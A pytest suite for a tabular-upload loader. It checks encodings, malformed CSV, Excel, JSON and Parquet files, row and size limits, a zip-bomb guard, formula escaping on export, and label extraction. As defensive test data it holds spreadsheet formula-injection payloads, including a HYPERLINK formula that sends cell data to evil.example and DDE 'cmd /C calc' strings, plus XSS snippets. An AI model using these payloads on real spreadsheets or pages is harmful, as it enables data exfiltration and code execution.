"""A corpus of bad uploads (tests/bad_files, made by make_corpus.py): every file has an explicit expected outcome,
either "loads: N rows, these columns, these labels" or "DataError whose message says these words". Big files (a
million rows, a zip-bomb-like workbook) are made here in tmp_path. Exports neutralise spreadsheet formulas. Property
tests: the loader raises nothing but DataError, and label extraction returns a label from the set or None."""

from __future__ import annotations

import csv
import importlib.util
import io
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from optimizers.data import MAX_ROWS, DataError, build_examples, read_table
from optimizers.export import safe_cell, to_csv
from optimizers.task import Task, normalize

CORPUS = Path(__file__).resolve().parent / "bad_files"
POS_NEG = {"positive", "negative"}


@dataclass(frozen=True)
class Loads:
    rows: int
    columns: list[str]
    labels: set[str] | None  # after build_examples(df, input_cols, label_col); None: do not build
    cells: dict[tuple[int, str], str] = field(default_factory=dict)  # (row index, column) -> exact text
    warnings: tuple[str, ...] = ()  # words that build_examples' warnings must contain
    input_cols: tuple[str, ...] = ("text",)
    label_col: str = "label"


@dataclass(frozen=True)
class Fails:
    words: tuple[str, ...]  # every one must be in the DataError message (the file name always is)
    stage: str = "read"  # "read": read_table fails; "build": read_table loads, build_examples fails
    input_cols: tuple[str, ...] = ("text",)
    label_col: str = "label"


ACCENTS = {(0, "text"): "café crème", (1, "text"): "naïve “quoted” plot"}
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
HTML = ["<script>alert('x')</script>", "<img src=x onerror=alert(1)>", '<a href="javascript:alert(1)">click</a>']

EXPECTED: dict[str, Loads | Fails] = {
    # encodings: detected and decoded, the BOM never ends up in the first column's name
    "utf8_bom.csv": Loads(3, ["text", "label"], POS_NEG, ACCENTS),
    "utf16_le_bom.csv": Loads(3, ["text", "label"], POS_NEG, ACCENTS),
    "utf16_be_bom.tsv": Loads(3, ["text", "label"], POS_NEG, ACCENTS),
    "utf16_le_nobom.csv": Loads(3, ["text", "label"], POS_NEG, ACCENTS),
    "cp1252.csv": Loads(3, ["text", "label"], POS_NEG, ACCENTS),
    "latin1.csv": Loads(3, ["text", "label"], POS_NEG, {(1, "text"): "très mauvais", (2, "text"): "à bientôt"}),
    "cp1251_cyrillic.csv": Loads(3, ["text", "label"], POS_NEG, {(1, "text"): "Ужасный фильм, скучно и долго"}),
    # delimiters, quoting, line endings
    "semicolon_excel.csv": Loads(3, ["text", "label"], POS_NEG, {(0, "text"): "good, really good"}),
    "excel_sep_line.csv": Loads(3, ["text", "label"], POS_NEG, {(2, "text"): "fine acting"}),
    "mixed_delimiters.csv": Fails(("rows 3", "line 4", "';'", "mixed delimiters")),
    "ragged_extra_cell.csv": Fails(("rows 2", "line 3", "has 3", "must be quoted")),
    "ragged_missing_cell.csv": Fails(("rows 2", "line 3", "has 1", "2 columns")),
    "unclosed_quote.csv": Fails(("line 3", "never closed")),
    "multiline_quoted.csv": Loads(3, ["text", "label"], POS_NEG, {(0, "text"): 'line one\nline "two"'}),
    "cr_line_endings.csv": Loads(3, ["text", "label"], POS_NEG, {(1, "label"): "negative"}),
    "crlf_blank_lines.csv": Loads(3, ["text", "label"], POS_NEG, {(2, "text"): "fine acting"}),
    "trailing_delimiter.csv": Loads(3, ["text", "label"], POS_NEG, {(0, "label"): "positive"}),
    "unnamed_column.csv": Fails(("column has no name", "column 2")),
    # empty, and things that are not a table at all
    "empty.csv": Fails(("empty",)),
    "whitespace_only.csv": Fails(("empty",)),
    "header_only.csv": Fails(("only a header",)),
    "header_only.xlsx": Fails(("no data rows", "only a header")),
    "binary_junk.csv": Fails(("binary", "not a text table")),
    "png_renamed.csv": Fails(("PNG image", "not a text table")),
    "xls_legacy.xlsx": Fails(("not a valid XLSX", "old-style .xls")),
    "html_page.csv": Fails(("web page", "raw file")),
    "csv_renamed.xlsx": Fails(("not a valid XLSX", "text file", "extension")),
    "xlsx_renamed.csv": Fails(("XLSX workbook", "not .csv", "extension")),
    "zip_not_xlsx.xlsx": Fails(("not an XLSX workbook", "xl/workbook.xml")),
    "truncated.xlsx": Fails(("not a valid XLSX", "truncated")),
    "truncated.parquet": Fails(("not a readable Parquet", "truncated")),
    "nul_bytes.csv": Fails(("NUL", "line(s) 3")),
    # untrusted cell content stays plain text, exactly as written
    "formulas.csv": Loads(5, ["text", "label"], POS_NEG, {(i, "text"): f for i, f in enumerate(FORMULAS)}),
    "html_js.csv": Loads(3, ["text", "label"], POS_NEG, {(i, "text"): h for i, h in enumerate(HTML)}),
    # columns
    "duplicated_columns.csv": Fails(("duplicated column name 'text'", "columns 1 and 3")),
    "duplicated_columns_space.csv": Fails(("duplicated column name 'label'", "columns 2 and 3")),
    "duplicated_columns.xlsx": Fails(("duplicated column name 'text'", "columns 1 and 3")),
    "duplicate_keys.json": Fails(("key 'text' more than once",)),
    "missing_column.csv": Fails(("'text'", "'label'", "not found", "the file has: 'review', 'sentiment'"),
                                stage="build"),
    # labels: case and stray spaces (including a no-break space) are one label, spelled as most rows spell it
    "label_whitespace_case.csv": Loads(8, ["text", "label"], POS_NEG, {(1, "label"): "Positive "},
                                       warnings=("'positive', 'Positive', 'POSITIVE'", "merged as 'positive'",
                                                 "merged as 'negative'")),
    "empty_labels.csv": Fails(("label column 'label' is empty in rows 2, 4",), stage="build"),
    "many_labels.csv": Fails(("500 distinct values", "more than 50"), stage="build"),
    "numbers_and_blanks.xlsx": Loads(3, ["text", "label"], {"1", "0"}, {(1, "text"): "awful film", (1, "label"): "0"}),
    "parquet_null_label.parquet": Fails(("empty in rows 2",), stage="build"),
    # JSON and JSONL
    "not_a_list.json": Fails(("expected a list of records", "'foo', 'bar'")),
    "list_of_numbers.json": Fails(("list of objects", "record(s) 1, 2, 3", "int")),
    "scalar.json": Fails(("expected a list of records", "str")),
    "mixed_types.json": Loads(3, ["text", "label"], None, {(0, "label"): "1", (1, "label"): "0", (2, "label"): ""}),
    "bad_line.jsonl": Fails(("line 3 is not valid JSON",)),
    "array_line.jsonl": Fails(("line(s) 2", "not objects")),
}


def _corpus_files() -> list[str]:
    return sorted(p.name for p in CORPUS.iterdir() if p.is_file() and p.suffix != ".py")


def test_corpus_is_complete_and_up_to_date():
    spec = importlib.util.spec_from_file_location("make_corpus", CORPUS / "make_corpus.py")
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    made = mod.corpus()
    assert len(made) >= 30
    assert sorted(made) == _corpus_files() == sorted(EXPECTED)  # every file has a stated outcome
    stale = [n for n, b in made.items() if (CORPUS / n).read_bytes() != b]
    assert not stale, f"run python tests/bad_files/make_corpus.py: {stale}"
    assert mod.corpus() == made  # deterministic


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_bad_file_outcome(name):
    want = EXPECTED[name]
    path = CORPUS / name
    if isinstance(want, Fails) and want.stage == "read":
        with pytest.raises(DataError) as e:
            read_table(path)
        msg = str(e.value)
        assert name in msg
        for w in want.words:
            assert w in msg, (w, msg)
        return
    df = read_table(path)
    assert all(isinstance(v, str) for v in df.to_numpy().ravel())
    if isinstance(want, Fails):
        with pytest.raises(DataError) as e:
            build_examples(df, list(want.input_cols), want.label_col)
        for w in want.words:
            assert w in str(e.value), (w, str(e.value))
        return
    assert len(df) == want.rows and list(df.columns) == want.columns
    for (i, col), text in want.cells.items():
        assert df[col].iloc[i] == text
    if want.labels is not None:
        exs, warnings = build_examples(df, list(want.input_cols), want.label_col)
        assert {e.label for e in exs} == want.labels
        assert len(exs) == want.rows
        for w in want.warnings:
            assert any(w in x for x in warnings), (w, warnings)


EXTENSIONS = [".csv", ".tsv", ".txt", ".json", ".jsonl", ".xlsx", ".parquet", ""]


@pytest.mark.parametrize("ext", EXTENSIONS)
def test_no_file_crashes_under_any_extension(ext):
    """Uploads arrive with any name: every corpus file under every extension loads or raises DataError."""
    for name in _corpus_files():
        try:
            df = read_table((CORPUS / name).read_bytes(), "upload" + ext)
        except DataError as e:
            assert e.problems and all(p.strip() for p in e.problems)
            continue
        assert isinstance(df, pd.DataFrame) and len(df) >= 1


def test_label_normalisation_is_build_examples_policy():
    """Labels keep their text in the frame; build_examples strips them, merges case/space variants and keeps the most
    frequent spelling (so 'Positive ' and 'positive' are one label 'positive' when most rows say 'positive')."""
    df = read_table(CORPUS / "label_whitespace_case.csv")
    exs, _ = build_examples(df, ["text"], "label")
    assert [e.label for e in exs] == ["positive"] * 4 + ["negative"] * 3 + ["positive"]


# --- big files, made at test time ----------------------------------------------------------------------------------
def test_million_row_csv_is_rejected_quickly(tmp_path):
    """Policy: at most MAX_ROWS (100,000) rows; reading stops at the first row past it."""
    path = tmp_path / "million.csv"
    path.write_bytes(b"text,label\n" + b"some review text,positive\n" * 1_000_000)
    t0 = time.perf_counter()
    with pytest.raises(DataError) as e:
        read_table(path)
    elapsed = time.perf_counter() - t0
    assert "million.csv" in str(e.value) and f"more than the limit of {MAX_ROWS:,} rows" in str(e.value)
    assert "stopped reading at line 100002" in str(e.value)  # header is line 1: line 100002 is row 100,001
    assert elapsed < 3.0, elapsed


def test_row_limit_boundary_every_format(tmp_path):
    rows = [{"text": f"t{i}", "label": "a" if i % 2 else "b"} for i in range(20)]
    df = pd.DataFrame(rows)
    df.to_csv(tmp_path / "r.csv", index=False)
    df.to_json(tmp_path / "r.jsonl", orient="records", lines=True)
    df.to_json(tmp_path / "r.json", orient="records")
    df.to_excel(tmp_path / "r.xlsx", index=False)
    df.to_parquet(tmp_path / "r.parquet")
    for name in ("r.csv", "r.jsonl", "r.json", "r.xlsx", "r.parquet"):
        assert len(read_table(tmp_path / name, max_rows=20)) == 20, name
        with pytest.raises(DataError, match="more than the limit of 19"):
            read_table(tmp_path / name, max_rows=19)


def test_size_limit_is_checked_before_reading(tmp_path):
    path = tmp_path / "big.csv"
    path.write_bytes(b"text,label\n" + b"x,y\n" * 300_000)
    with pytest.raises(DataError, match=r"big.csv: the file is larger than 1 MB"):
        read_table(path, max_bytes=2**20)
    with pytest.raises(DataError, match="larger than 1 MB"):
        read_table(io.BytesIO(path.read_bytes()), "big.csv", max_bytes=2**20)


def _bomb_xlsx(pad_bytes: int) -> bytes:
    """A real workbook whose sheet XML is padded with whitespace: tiny on disk, huge when unpacked."""
    buf = io.BytesIO()
    pd.DataFrame({"text": ["a", "b"], "label": ["x", "y"]}).to_excel(buf, index=False)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = body.replace(b"<sheetData>", b"<sheetData>" + b" " * pad_bytes, 1)
            z.writestr(info.filename, body)
    return out.getvalue()


def test_zip_bomb_like_xlsx_is_rejected_before_unpacking(tmp_path, monkeypatch):
    data = _bomb_xlsx(64 * 2**20)
    assert len(data) < 200_000  # tiny on disk, 64 MB of sheet XML
    (tmp_path / "bomb.xlsx").write_bytes(data)
    import openpyxl

    def must_not_open(*a, **k):
        raise AssertionError("openpyxl was asked to open a zip bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", must_not_open)
    t0 = time.perf_counter()
    with pytest.raises(DataError) as e:
        read_table(tmp_path / "bomb.xlsx")
    assert time.perf_counter() - t0 < 1.0
    msg = str(e.value)
    assert "bomb.xlsx" in msg and "xl/worksheets/sheet1.xml" in msg and "zip bomb guard" in msg


def test_modestly_padded_xlsx_still_loads():
    """The guard is a ratio on members over 1 MB: an ordinary workbook is not refused."""
    df = read_table(_bomb_xlsx(2**19), "padded.xlsx")
    assert df.values.tolist() == [["a", "x"], ["b", "y"]]


# --- export neutralises formulas ------------------------------------------------------------------------------------
def test_export_neutralises_formulas_from_uploaded_cells():
    df = read_table(CORPUS / "formulas.csv")
    for cell in df["text"]:
        assert safe_cell(cell) == "'" + cell  # every one of them starts with = + - @ or a tab
    for cell in read_table(CORPUS / "html_js.csv")["text"]:
        assert safe_cell(cell) == cell  # not a formula: left alone (the UI shows it as text)
    out = to_csv([{"text": t, "label": lab, "score": -1} for t, lab in zip(df["text"], df["label"])])
    back = list(csv.DictReader(io.StringIO(out)))
    assert [r["text"] for r in back] == ["'" + t for t in FORMULAS]
    assert all(not r["text"].startswith(("=", "+", "-", "@", "\t", "\r")) for r in back)
    assert [r["score"] for r in back] == ["-1"] * 5  # numbers are numbers, not formulas


# --- property tests -------------------------------------------------------------------------------------------------
CSVISH = st.text(alphabet=st.sampled_from(list('abc xyzé€"\',;\t|\n\r=<>{}[]:\x00\ufeff') + ["\u2028", "\x1a"]),
                 max_size=400)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(CSVISH, st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252", "latin-1"]), st.sampled_from(EXTENSIONS))
def test_read_table_on_csvish_bytes_returns_a_frame_or_data_error(text, encoding, ext):
    data = text.encode(encoding, errors="replace")
    try:
        df = read_table(data, "fuzz" + ext)
    except DataError as e:
        assert "fuzz" + ext in str(e) and e.problems
        return
    assert len(df) >= 1
    cols = list(df.columns)
    assert len(set(cols)) == len(cols) and all(c and c == c.strip() for c in cols)
    assert all(isinstance(v, str) for v in df.to_numpy().ravel())


CELL = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=20)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(alphabet="abcdefgh_ ", min_size=1, max_size=8).map(str.strip).filter(bool),
                min_size=2, max_size=4, unique=True),
       st.lists(st.lists(CELL, min_size=4, max_size=4), min_size=1, max_size=15),
       st.sampled_from([",", ";", "\t"]))
def test_written_csv_reads_back_identically(header, rows, sep):
    rows = [r[: len(header)] for r in rows if any(c.strip() for c in r[: len(header)])]
    assume(rows)
    buf = io.StringIO()
    csv.writer(buf, delimiter=sep).writerows([header, *rows])
    df = read_table(buf.getvalue().encode("utf-8"), "round.csv")
    assert list(df.columns) == header
    assert df.values.tolist() == rows


LABEL_SETS = st.one_of(
    st.sampled_from([["positive", "negative"], ["Yes", "No"], ["True", "False"], ["(A)", "(B)", "(C)"], ["A", "B"],
                     ["valid", "invalid"], ["1", "0"], ["entailment", "neutral", "contradiction"]]),
    st.lists(st.text(min_size=1, max_size=12), min_size=1, max_size=6, unique=True),
)
REPLY = st.one_of(st.text(max_size=200), st.builds(lambda a, b, c: f"{a}{b}{c}", st.text(max_size=30),
                  st.sampled_from(["Answer: ", "The answer is (B)", "Label: yes", "final answer: ", "(a)", "\n"]),
                  st.text(max_size=30)))


@settings(max_examples=250, deadline=None)
@given(LABEL_SETS, REPLY)
def test_label_extraction_returns_a_label_or_none(labels, reply):
    task = Task(template="{prompt} {text}", input_cols=["text"], labels=labels)
    got = task.extract(reply)
    assert got is None or got in labels


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet="abcdefghijklmnopqrstuvwxyz", min_size=2, max_size=10), min_size=2, max_size=6,
                unique_by=normalize), st.data())
def test_label_extraction_finds_a_bare_label(labels, data):
    label = data.draw(st.sampled_from(labels))
    task = Task(template="{prompt} {text}", input_cols=["text"], labels=labels)
    assert task.extract(label) == label
    assert task.extract(f"  {label.upper()}.\n") == label


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(["number", "exact", "regex"]), st.text(max_size=200))
def test_other_extractions_never_raise(kind, reply):
    task = Task(template="{prompt} {text}", input_cols=["text"], extraction=kind,
                regex=r"answer:\s*(\w+)" if kind == "regex" else None)
    got = task.extract(reply)
    assert got is None or isinstance(got, str)
    if kind == "number" and got is not None:
        float(got)
